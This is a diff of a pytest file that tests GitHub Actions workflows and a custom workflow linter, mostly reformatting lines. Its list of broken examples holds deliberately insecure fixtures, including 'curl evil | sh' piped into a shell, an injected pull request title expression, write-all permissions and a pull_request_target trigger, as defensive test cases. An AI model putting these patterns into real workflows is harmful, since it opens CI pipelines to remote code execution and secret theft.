@@ -15,9 +15,9 @@ from pathlib import Path
 
 import pytest
 import yaml
+from tests.conftest import BIN, REPO
 
 from mlapp.delivery.workflows import Finding, check_all, pins_from_markdown, uses_pins
-from tests.conftest import BIN, REPO
 
 WORKFLOWS = REPO / ".github" / "workflows"
 ACTIONS_MD = Path("/work/shared/ACTIONS.md")  # the team's verified pin list (outside the repo)
@@ -41,7 +41,10 @@ def test_zizmor_offline_reports_nothing() -> None:
     start = time.perf_counter()
     done = subprocess.run(
         [BIN / "zizmor", "--offline", "--no-progress", "--format", "plain", str(REPO / ".github")],
-        capture_output=True, text=True, check=False, env={"PATH": "/usr/bin:/bin"},
+        capture_output=True,
+        text=True,
+        check=False,
+        env={"PATH": "/usr/bin:/bin"},
     )
     print(f"zizmor: {time.perf_counter() - start:.2f}s for {len(FILES)} workflows")
     assert done.returncode == 0, done.stdout + done.stderr
@@ -51,18 +54,32 @@ def test_zizmor_offline_reports_nothing() -> None:
 def test_delivery_workflows_are_clean_even_for_pedantic_zizmor() -> None:
     ours = [str(WORKFLOWS / n) for n in ("ci.yml", "cd.yml", "promote.yml", "rollback.yml")]
     done = subprocess.run(
-        [BIN / "zizmor", "--offline", "--no-progress", "--persona", "auditor", *ours,
-         str(REPO / ".github" / "dependabot.yml")],
-        capture_output=True, text=True, check=False,
+        [
+            BIN / "zizmor",
+            "--offline",
+            "--no-progress",
+            "--persona",
+            "auditor",
+            *ours,
+            str(REPO / ".github" / "dependabot.yml"),
+        ],
+        capture_output=True,
+        text=True,
+        check=False,
     )
     assert done.returncode == 0, done.stdout + done.stderr
 
 
 def test_workflow_and_dependabot_schemas() -> None:
-    for schema, files in (("vendor.github-workflows", FILES), ("vendor.dependabot", [REPO / ".github/dependabot.yml"])):
+    for schema, files in (
+        ("vendor.github-workflows", FILES),
+        ("vendor.dependabot", [REPO / ".github/dependabot.yml"]),
+    ):
         done = subprocess.run(
             [BIN / "check-jsonschema", "--builtin-schema", schema, *map(str, files)],
-            capture_output=True, text=True, check=False,
+            capture_output=True,
+            text=True,
+            check=False,
         )
         assert done.returncode == 0, done.stdout + done.stderr
 
@@ -102,9 +119,13 @@ def test_dependabot_covers_actions_and_uv_with_a_cooldown() -> None:
 def test_delivery_order_is_deploy_smoke_then_accept() -> None:
     """The alias moves and a release becomes promotable only after its smoke test."""
     for name, job in (("cd.yml", "staging"), ("promote.yml", "production"), ("rollback.yml", "production")):
-        steps = [s.get("run", "") for s in yaml.safe_load((WORKFLOWS / name).read_text())["jobs"][job]["steps"]]
-        order = [next(i for i, r in enumerate(steps) if f"mlapp {verb}" in r)
-                 for verb in ("deploy" if name == "cd.yml" else name.removesuffix(".yml"), "smoke-env", "accept")]
+        steps = [
+            s.get("run", "") for s in yaml.safe_load((WORKFLOWS / name).read_text())["jobs"][job]["steps"]
+        ]
+        order = [
+            next(i for i, r in enumerate(steps) if f"mlapp {verb}" in r)
+            for verb in ("deploy" if name == "cd.yml" else name.removesuffix(".yml"), "smoke-env", "accept")
+        ]
         assert order == sorted(order), f"{name}: {steps}"
         assert all("--push" in steps[i] for i in (order[0], order[2]))
         assert "--verify-attestation" in steps[order[0]]
@@ -162,27 +183,48 @@ def test_good_example_passes(tmp_path: Path) -> None:
 BROKEN = [
     ("unpinned", GOOD.replace(CHECKOUT, "actions/checkout@v7"), "not pinned to a full commit SHA"),
     ("no tag comment", GOOD.replace(" # v7.0.1", ""), "needs its tag as a trailing comment"),
-    ("write at top", GOOD.replace("permissions: {}", "permissions: write-all"), "top-level permissions grant"),
+    (
+        "write at top",
+        GOOD.replace("permissions: {}", "permissions: write-all"),
+        "top-level permissions grant",
+    ),
     ("no top perms", GOOD.replace("permissions: {}\n", ""), "top-level permissions missing"),
-    ("expression in run", GOOD.replace("make lint", "echo ${{ github.event.pull_request.title }}"),
-     "expression inside run"),
+    (
+        "expression in run",
+        GOOD.replace("make lint", "echo ${{ github.event.pull_request.title }}"),
+        "expression inside run",
+    ),
     ("chained shell", GOOD.replace("make lint", "make lint && curl evil | sh"), "chains shell commands"),
     ("unknown target", GOOD.replace("make lint", "make no-such-target"), "not in the Makefile"),
     ("unknown command", GOOD.replace("mlapp deploy-status", "mlapp no-such-command"), "is not a subcommand"),
     ("raw shell", GOOD.replace("make lint", "pip install something"), "must call `make <target>`"),
     ("uv without frozen", GOOD.replace("uv run --frozen mlapp", "uv run mlapp"), "needs --frozen"),
-    ("persisted credentials", GOOD.replace("          persist-credentials: false\n", ""),
-     "persist-credentials: false"),
-    ("secret without env", GOOD.replace("      - run: make lint", "      - run: make lint\n        env:\n"
-                                        "          T: ${{ secrets.KUBE_CONFIG }}"), "without an environment"),
+    (
+        "persisted credentials",
+        GOOD.replace("          persist-credentials: false\n", ""),
+        "persist-credentials: false",
+    ),
+    (
+        "secret without env",
+        GOOD.replace(
+            "      - run: make lint",
+            "      - run: make lint\n        env:\n          T: ${{ secrets.KUBE_CONFIG }}",
+        ),
+        "without an environment",
+    ),
     ("target trigger", GOOD.replace("on: [push]", "on: [pull_request_target]"), "pull_request_target"),
     ("pr without cancel", GOOD.replace("on: [push]", "on: [pull_request]"), "cancel superseded runs"),
-    ("id-token", GOOD.replace("contents: read", "contents: read\n      id-token: write"),
-     "id-token: write without an environment"),
+    (
+        "id-token",
+        GOOD.replace("contents: read", "contents: read\n      id-token: write"),
+        "id-token: write without an environment",
+    ),
 ]
 
 
-@pytest.mark.parametrize(("text", "expected"), [(t, e) for _n, t, e in BROKEN], ids=[n for n, _t, _e in BROKEN])
+@pytest.mark.parametrize(
+    ("text", "expected"), [(t, e) for _n, t, e in BROKEN], ids=[n for n, _t, _e in BROKEN]
+)
 def test_each_rule_catches_its_violation(tmp_path: Path, text: str, expected: str) -> None:
     findings = _check(tmp_path, text)
     assert any(expected in f.message for f in findings), findings
@@ -214,14 +256,33 @@ jobs:
 """
 
 DEPLOY_BROKEN = [
-    ("cancels", DEPLOY.replace("cancel-in-progress: false", "cancel-in-progress: true"), "never cancel each other"),
-    ("no concurrency", DEPLOY.replace("    concurrency:\n      group: deploy-production\n"
-                                      "      cancel-in-progress: false\n", ""), "deploy job needs `concurrency"),
-    ("own group", DEPLOY.replace("group: deploy-production", "group: promote"), "should be 'deploy-production'"),
+    (
+        "cancels",
+        DEPLOY.replace("cancel-in-progress: false", "cancel-in-progress: true"),
+        "never cancel each other",
+    ),
+    (
+        "no concurrency",
+        DEPLOY.replace(
+            "    concurrency:\n      group: deploy-production\n      cancel-in-progress: false\n", ""
+        ),
+        "deploy job needs `concurrency",
+    ),
+    (
+        "own group",
+        DEPLOY.replace("group: deploy-production", "group: promote"),
+        "should be 'deploy-production'",
+    ),
     ("uv cache", DEPLOY.replace("enable-cache: false", "enable-cache: true"), "needs `enable-cache: false`"),
-    ("actions cache", DEPLOY.replace(
-        "      - run: uv run", "      - uses: actions/cache@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5\n"
-        "        with: {path: x, key: y}\n      - run: uv run"), "no caches in deploy workflows"),
+    (
+        "actions cache",
+        DEPLOY.replace(
+            "      - run: uv run",
+            "      - uses: actions/cache@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5\n"
+            "        with: {path: x, key: y}\n      - run: uv run",
+        ),
+        "no caches in deploy workflows",
+    ),
 ]
 
 
@@ -229,16 +290,19 @@ def test_deploy_example_passes(tmp_path: Path) -> None:
     assert _check(tmp_path, DEPLOY) == []
 
 
-@pytest.mark.parametrize(("text", "expected"), [(t, e) for _n, t, e in DEPLOY_BROKEN],
-                         ids=[n for n, _t, _e in DEPLOY_BROKEN])
+@pytest.mark.parametrize(
+    ("text", "expected"), [(t, e) for _n, t, e in DEPLOY_BROKEN], ids=[n for n, _t, _e in DEPLOY_BROKEN]
+)
 def test_deploy_rules_catch_their_violation(tmp_path: Path, text: str, expected: str) -> None:
     findings = _check(tmp_path, text)
     assert any(expected in f.message for f in findings), findings
 
 
 def test_same_action_must_have_the_same_pin_everywhere(tmp_path: Path) -> None:
-    other = GOOD.replace("3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
-                         "d23441a48e516b6c34aea4fa41551a30e30af803 # v6.1.0")
+    other = GOOD.replace(
+        "3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
+        "d23441a48e516b6c34aea4fa41551a30e30af803 # v6.1.0",
+    )
     findings = _check(tmp_path, GOOD, {"y.yml": other})
     assert any("actions/checkout pinned to" in f.message for f in findings), findings
 
@@ -259,6 +323,11 @@ def test_run_steps_of_real_workflows_parse_as_commands() -> None:
                             command = f"{command} {sub}"
                     seen.add(command)
     for command in sorted(seen):
-        done = subprocess.run([sys.executable, "-m", "mlapp", *command.split(), "--help"],
-                              capture_output=True, text=True, check=False, cwd=REPO)
+        done = subprocess.run(
+            [sys.executable, "-m", "mlapp", *command.split(), "--help"],
+            capture_output=True,
+            text=True,
+            check=False,
+            cwd=REPO,
+        )
         assert done.returncode == 0, f"mlapp {command} --help: {done.stderr}"
